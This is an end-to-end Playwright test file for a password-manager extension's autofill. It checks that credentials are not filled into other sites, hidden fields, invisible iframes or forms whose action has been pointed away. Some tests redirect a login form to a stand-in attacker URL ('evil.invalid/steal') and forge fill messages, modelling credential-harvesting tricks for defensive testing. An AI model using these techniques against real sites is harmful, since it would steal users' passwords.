// Autofill end to end (issue 5, issue 8's attack list): the popup's Fill and the shortcut on
// local fixture pages (tests/fixtures/autofill-e2e), with 127.0.0.1 and localhost on the same
// port standing in for two different sites.
import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import type { Browser } from 'wxt/browser';
import { decodeList } from '../../src/messages/list-codec';
import {
  bindFillShortcut,
  FILL_SHORTCUT,
  matchesSection,
  openPopupFor,
  PASS,
  pressFillShortcut,
  setUpTwoSites,
  site,
  tabIdOf,
  twoSitesPage,
  USER,
  values,
  watchScripts,
} from './autofill-support';
import type { ExtensionHarness } from './harness/extension-harness';
import type { FixtureServer } from './harness/fixture-server';
import { expect, test } from './harness/fixtures';
import { createVault, login, openPopup, seedItems, sendRequest } from './popup-support';

// Functions passed to evaluate/evalInWorker are serialised and run where `chrome` is global.
declare const chrome: typeof Browser;

/** The matches section and the confirmation pass axe (serious and critical rules), in both schemes. */
async function expectAccessible(popup: Page): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const) {
    await popup.emulateMedia({ colorScheme });
    const results = await new AxeBuilder({ page: popup }).analyze();
    const serious = results.violations
      .filter((v) => v.impact === 'serious' || v.impact === 'critical')
      .map(
        (v) => `${colorScheme}: ${v.id} ${v.help} -> ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`,
      );
    expect(serious, serious.join('\n')).toEqual([]);
  }
}

test('the popup lists the page’s login first and Fill fills it', async ({ extension, fixtureServer }) => {
  const page = await twoSitesPage(extension, fixtureServer, 'login.html');
  const popup = await openPopupFor(extension, page);
  const section = matchesSection(popup);
  await expect(section.getByRole('listitem')).toHaveCount(1);
  await expect(section).toContainText('Local');
  await section.getByRole('button', { name: 'Fill Local' }).click();
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  expect(await values(page, 'username', 'password')).toEqual([USER, PASS]);
});

test('no login is offered or filled on another site', async ({ extension, fixtureServer }) => {
  const page = await twoSitesPage(extension, fixtureServer, 'login.html', 'localhost');
  const popup = await openPopupFor(extension, page);
  await expect(matchesSection(popup)).toContainText('Other');
  await expect(matchesSection(popup)).not.toContainText('Local');
  // Asking for the other site's item by id is refused by the background.
  const tabId = await tabIdOf(extension, page.url());
  const { encoded } = await sendRequest<{ encoded: string }>(popup, { type: 'vault.list' });
  const id = decodeList(encoded).find((item) => item.name === 'Local')?.id;
  const reply = await popup.evaluate((msg) => chrome.runtime.sendMessage(msg), {
    type: 'autofill.fill',
    tabId,
    itemId: id,
    pageUrl: page.url(),
  });
  expect(reply).toMatchObject({ ok: false, error: { code: 'no-match' } });
  expect(await values(page, 'username', 'password')).toEqual(['', '']);
});

test('an https login is neither offered nor filled on an http page', async ({ extension, fixtureServer }) => {
  const popup = await openPopup(extension);
  await createVault(popup);
  await seedItems(popup, [login('Secure', { urls: [`https://127.0.0.1:${fixtureServer.port}/`] })]);
  const page = await extension.newPage();
  await page.goto(site(fixtureServer, 'login.html'));
  const tabId = await tabIdOf(extension, page.url());
  const matches = await sendRequest<{ matches: unknown[] }>(popup, { type: 'autofill.matchesForTab', tabId });
  expect(matches.matches).toEqual([]);
  await expect
    .poll(() => sendRequest(popup, { type: 'autofill.fillNext', tabId }).catch((e: Error) => e.message))
    .toContain('no-match');
  expect(await values(page, 'username', 'password')).toEqual(['', '']);
});

test('hidden, zero-size, off-screen and nearly transparent fields are never filled', async ({
  extension,
  fixtureServer,
}) => {
  const page = await twoSitesPage(extension, fixtureServer, 'hidden.html');
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  expect(await values(page, 'username', 'password')).toEqual([USER, PASS]);
  const decoys = await page.evaluate(() =>
    [...document.querySelectorAll('form:not(#login) input')].map((el) => (el as HTMLInputElement).value),
  );
  expect(decoys).toEqual(['', '', '', '', '', '', '', '']);

  // A page with decoys only: nothing filled, a clear refusal.
  await page.goto(site(fixtureServer, 'hidden-only.html'));
  const tabId = await tabIdOf(extension, page.url());
  const reply = await popup.evaluate((msg) => chrome.runtime.sendMessage(msg), {
    type: 'autofill.fillNext',
    tabId,
  });
  expect(reply).toMatchObject({ ok: false, error: { code: 'no-form' } });
  expect(await values(page, 'd-user', 'd-pass', 'd-zero-user', 'd-zero-pass')).toEqual(['', '', '', '']);
});

/** login.html filled with the Local login from the popup. */
async function filledLoginPage(extension: ExtensionHarness, server: FixtureServer): Promise<Page> {
  const page = await twoSitesPage(extension, server, 'login.html');
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(page.locator('#password')).toHaveValue(PASS);
  return page;
}

/**
 * Opens login.html with `query` pointing its post at localhost (another site), and checks that
 * Fill asks first, naming that origin, fills nothing until "Fill anyway", then fills.
 */
async function expectConfirmedFill(
  extension: ExtensionHarness,
  server: FixtureServer,
  query: (elsewhere: string) => string,
  checkAccessible = false,
): Promise<void> {
  await setUpTwoSites(extension, server);
  const page = await extension.newPage();
  const elsewhere = `http://localhost:${server.port}`;
  await page.goto(site(server, `login.html?${query(encodeURIComponent(`${elsewhere}/collect`))}`));
  const popup = await openPopupFor(extension, page);
  if (checkAccessible) await expectAccessible(popup);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  const confirm = popup.getByRole('alertdialog', { name: 'Confirm fill' });
  await expect(confirm).toContainText(elsewhere);
  if (checkAccessible) await expectAccessible(popup);
  expect(await values(page, 'username', 'password')).toEqual(['', '']);
  await confirm.getByRole('button', { name: 'Fill anyway' }).click();
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  expect(await values(page, 'username', 'password')).toEqual([USER, PASS]);
}

test('a form posting to another origin needs a confirmation naming it', async ({
  extension,
  fixtureServer,
}) => {
  await expectConfirmedFill(extension, fixtureServer, (url) => `action=${url}`, true);
});

test('a submit button posting to another origin (formaction) needs a confirmation naming it', async ({
  extension,
  fixtureServer,
}) => {
  await expectConfirmedFill(extension, fixtureServer, (url) => `formaction=${url}`);
});

test('the filled values are cleared when a submit button’s formaction moves to another origin', async ({
  extension,
  fixtureServer,
}) => {
  const page = await filledLoginPage(extension, fixtureServer);
  await page.evaluate(() => {
    document.querySelector('#login button')?.setAttribute('formaction', 'http://evil.invalid/steal');
  });
  await expect(page.locator('#password')).toHaveValue('');
  await expect(page.locator('#username')).toHaveValue('');
});

test('a cross-origin iframe is filled only after a confirmation naming its origin', async ({
  extension,
  fixtureServer,
}) => {
  await setUpTwoSites(extension, fixtureServer);
  const page = await extension.newPage();
  const inner = site(fixtureServer, 'login.html', 'localhost');
  await page.goto(site(fixtureServer, `frame.html?src=${encodeURIComponent(inner)}`));
  const frame = page.frameLocator('#embed');
  await expect(frame.locator('#password')).toBeVisible();
  const popup = await openPopupFor(extension, page);
  // The top page (127.0.0.1) lists its own login; the frame's site's login is in the full list.
  await popup.getByRole('option', { name: /Other/ }).click();
  await popup.getByRole('button', { name: 'Fill Other' }).click();
  const confirm = popup.getByRole('alertdialog', { name: 'Confirm fill' });
  await expect(confirm).toContainText(`http://localhost:${fixtureServer.port}`);
  await expect(frame.locator('#password')).toHaveValue('');
  // Cancel drops the question; Fill asks again.
  await confirm.getByRole('button', { name: 'Cancel' }).click();
  await expect(confirm).toHaveCount(0);
  await popup.getByRole('button', { name: 'Fill Other' }).click();
  await confirm.getByRole('button', { name: 'Fill anyway' }).click();
  await expect(frame.locator('#password')).toHaveValue('pw-Other');
  await expect(frame.locator('#username')).toHaveValue('other@example.com');
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  // The top page's own login never went into the frame, and the top page got nothing.
  await expect(page.locator('#username')).toHaveCount(0);
});

/** The hidden-frames page with frames of the 'Other' login's site; resolves once all have loaded. */
async function hiddenFramesPage(extension: ExtensionHarness, server: FixtureServer, visible: boolean) {
  await setUpTwoSites(extension, server);
  const page = await extension.newPage();
  const inner = site(server, 'login.html', 'localhost');
  await page.goto(
    site(server, `hidden-frames.html?src=${encodeURIComponent(inner)}&visible=${visible ? 1 : 0}`),
  );
  const count = visible ? 10 : 9;
  await expect
    .poll(async () => {
      const loaded = await Promise.all(
        page
          .frames()
          .filter((f) => f.url().startsWith('http://localhost'))
          .map((f) => f.evaluate(() => document.readyState === 'complete').catch(() => false)),
      );
      return loaded.filter(Boolean).length;
    })
    .toBe(count);
  return page;
}

/** Every localhost frame's password value, by the frame's ?frame= name. */
async function framePasswords(page: Page): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const frame of page.frames().filter((f) => f.url().startsWith('http://localhost'))) {
    const name = new URL(frame.url()).searchParams.get('frame') ?? '?';
    out[name] = await frame.evaluate(() => (document.getElementById('password') as HTMLInputElement).value);
  }
  return out;
}

/** Chooses 'Other' (the frames' site) in the popup, Fill, then "Fill anyway" on the question. */
async function fillOtherAnyway(popup: Page): Promise<void> {
  await popup.getByRole('option', { name: /Other/ }).click();
  await popup.getByRole('button', { name: 'Fill Other' }).click();
  const confirm = popup.getByRole('alertdialog', { name: 'Confirm fill' });
  await expect(confirm).toContainText('http://localhost');
  await confirm.getByRole('button', { name: 'Fill anyway' }).click();
}

test('after “Fill anyway”, only the frame the person can see is filled, never those its page hides (0x0, transparent, hidden, off-screen, clipped, covered)', async ({
  extension,
  fixtureServer,
}) => {
  const page = await hiddenFramesPage(extension, fixtureServer, true);
  const popup = await openPopupFor(extension, page);
  await fillOtherAnyway(popup);
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  expect(await framePasswords(page)).toEqual({
    'zero-size': '',
    'one-pixel': '',
    'opacity-0': '',
    'ancestor-opacity': '',
    'visibility-hidden': '',
    'off-screen': '',
    'clip-path': '',
    'clip-rect': '',
    covered: '',
    shown: 'pw-Other',
  });
});

test('after “Fill anyway”, nothing is filled when the page hides every frame of that origin', async ({
  extension,
  fixtureServer,
}) => {
  const page = await hiddenFramesPage(extension, fixtureServer, false);
  const popup = await openPopupFor(extension, page);
  await fillOtherAnyway(popup);
  await expect(popup.getByRole('status').filter({ hasText: 'No visible login form' })).toBeVisible();
  expect(Object.values(await framePasswords(page))).toEqual(Array(9).fill(''));
});

test('a sweep page with 20 invisible cross-origin iframes: only the top page is filled', async ({
  extension,
  fixtureServer,
}) => {
  await setUpTwoSites(extension, fixtureServer);
  const page = await extension.newPage();
  const inner = site(fixtureServer, 'login.html', 'localhost');
  await page.goto(site(fixtureServer, `sweep.html?src=${encodeURIComponent(inner)}`));
  await expect
    .poll(() => page.frames().filter((f) => f.url().startsWith('http://localhost')).length)
    .toBe(20);
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(page.locator('#password')).toHaveValue(PASS);
  // The shortcut path too, and the frames' own site's login asked for directly: no frame is filled
  // without a confirmation naming it.
  const tabId = await tabIdOf(extension, page.url());
  await sendRequest(popup, { type: 'autofill.fillNext', tabId });
  const { encoded } = await sendRequest<{ encoded: string }>(popup, { type: 'vault.list' });
  const other = decodeList(encoded).find((item) => item.name === 'Other')?.id;
  const reply = await popup.evaluate((msg) => chrome.runtime.sendMessage(msg), {
    type: 'autofill.fill',
    tabId,
    itemId: other,
    pageUrl: page.url(),
  });
  expect(reply).toMatchObject({ ok: false, error: { code: 'confirm-frame' } });
  for (const frame of page.frames().filter((f) => f !== page.mainFrame())) {
    expect(await frame.evaluate(() => (document.getElementById('password') as HTMLInputElement).value)).toBe(
      '',
    );
    expect(await frame.evaluate(() => (document.getElementById('username') as HTMLInputElement).value)).toBe(
      '',
    );
  }
});

test('a page forging fill commands (postMessage, custom events) gets nothing filled and no reply', async ({
  extension,
  fixtureServer,
}) => {
  const page = await twoSitesPage(extension, fixtureServer, 'login.html');
  const replies = await page.evaluate(async () => {
    const seen: unknown[] = [];
    window.addEventListener('message', (event) => seen.push(event.data));
    const forged = { type: 'tessera.fill', origin: location.origin, username: 'x', password: 'forged' };
    window.postMessage(forged, '*');
    document.dispatchEvent(new CustomEvent('tessera.fill', { detail: forged }));
    window.dispatchEvent(new CustomEvent('message', { detail: forged }));
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Only the page's own forged message comes back (and WXT's start-up notice, no secret).
    return seen.filter((data) => (data as { type?: string })?.type !== 'tessera.fill');
  });
  expect(JSON.stringify(replies)).not.toContain(PASS);
  expect(await values(page, 'username', 'password')).toEqual(['', '']);
});

test('the filled values are cleared when the password field changes type', async ({
  extension,
  fixtureServer,
}) => {
  const page = await filledLoginPage(extension, fixtureServer);
  await page.evaluate(() => {
    (document.getElementById('password') as HTMLInputElement).type = 'text';
  });
  await expect(page.locator('#password')).toHaveValue('');
  await expect(page.locator('#username')).toHaveValue('');
});

test('the filled values are cleared when the form action moves to another origin', async ({
  extension,
  fixtureServer,
}) => {
  const page = await filledLoginPage(extension, fixtureServer);
  await page.evaluate(() => {
    (document.getElementById('login') as HTMLFormElement).action = 'http://evil.invalid/steal';
  });
  await expect(page.locator('#password')).toHaveValue('');
});

test('a navigation to another site between opening the popup and Fill is refused', async ({
  extension,
  fixtureServer,
}) => {
  const page = await twoSitesPage(extension, fixtureServer, 'login.html');
  const popup = await openPopupFor(extension, page);
  await expect(matchesSection(popup)).toContainText('Local');
  await page.goto(site(fixtureServer, 'login.html', 'localhost'));
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(popup.getByRole('status').filter({ hasText: 'moved to another site' })).toBeVisible();
  expect(await values(page, 'username', 'password')).toEqual(['', '']);
});

test('a React-style controlled form keeps the filled value', async ({ extension, fixtureServer }) => {
  const page = await twoSitesPage(extension, fixtureServer, 'react.html');
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(page.locator('#state')).toHaveText(`${USER}|${PASS.length}`);
  // The app re-renders from its state every 50 ms; the value survives that.
  await page.waitForTimeout(200);
  expect(await values(page, 'username', 'password')).toEqual([USER, PASS]);
});

test('a sign-in form that a single-page app adds after load is found and filled', async ({
  extension,
  fixtureServer,
}) => {
  const page = await twoSitesPage(extension, fixtureServer, 'spa.html');
  await expect(page.locator('body')).toHaveAttribute('data-rendered', 'true');
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(page.locator('#password')).toHaveValue(PASS);
  await expect(page.locator('#username')).toHaveValue(USER);
});

test('the shortcut fills the best match and cycles on repeat', async ({ extension, fixtureServer }) => {
  const popup = await openPopup(extension);
  await createVault(popup);
  await seedItems(popup, [
    login('First', {
      username: 'first@example.com',
      urls: [`http://127.0.0.1:${fixtureServer.port}/`],
      favorite: true,
    }),
    login('Second', { username: 'second@example.com', urls: [`http://127.0.0.1:${fixtureServer.port}/`] }),
  ]);
  // The manifest declares the command with its default key; this automated profile leaves it
  // unbound, so the test binds it as a person would on chrome://extensions/shortcuts.
  const declared = await extension.evalInWorker(
    () =>
      (chrome.runtime.getManifest().commands as Record<string, { suggested_key?: { default?: string } }>)?.[
        'fill-login'
      ]?.suggested_key?.default,
  );
  expect(declared).toBe(FILL_SHORTCUT);
  await bindFillShortcut(extension);

  const page = await extension.newPage();
  await page.goto(site(fixtureServer, 'login.html'));
  await page.bringToFront();
  // The real key, through the browser's own shortcut handling and the commands listener.
  await pressFillShortcut(page);
  await expect(page.locator('#username')).toHaveValue('first@example.com');
  await pressFillShortcut(page);
  await expect(page.locator('#username')).toHaveValue('second@example.com');
  await pressFillShortcut(page);
  await expect(page.locator('#username')).toHaveValue('first@example.com');
});

test('a sign-in form in open shadow roots that nobody clicked into is filled by the shortcut and by the popup’s Fill', async ({
  extension,
  fixtureServer,
}) => {
  await setUpTwoSites(extension, fixtureServer, true);
  await bindFillShortcut(extension);
  const page = await extension.newPage();
  const scripts = await watchScripts(page);
  await page.goto(site(fixtureServer, 'shadow-login.html'));
  await page.bringToFront();
  // Nothing login-like in the light DOM and nobody reached in: detection has not run.
  await page.waitForTimeout(300);
  expect(scripts.forms()).toEqual([]);
  // Playwright's CSS locators pierce open shadow roots (getElementById would not).
  await pressFillShortcut(page);
  await expect(page.locator('#username')).toHaveValue(USER);
  await expect(page.locator('#password')).toHaveValue(PASS);
  await scripts.cdp.detach();

  await page.reload();
  await expect(page.locator('#password')).toHaveValue('');
  const popup = await openPopupFor(extension, page);
  await matchesSection(popup).getByRole('button', { name: 'Fill Local' }).click();
  await expect(popup.getByRole('status').filter({ hasText: 'Filled.' })).toBeVisible();
  await expect(page.locator('#username')).toHaveValue(USER);
  await expect(page.locator('#password')).toHaveValue(PASS);
});
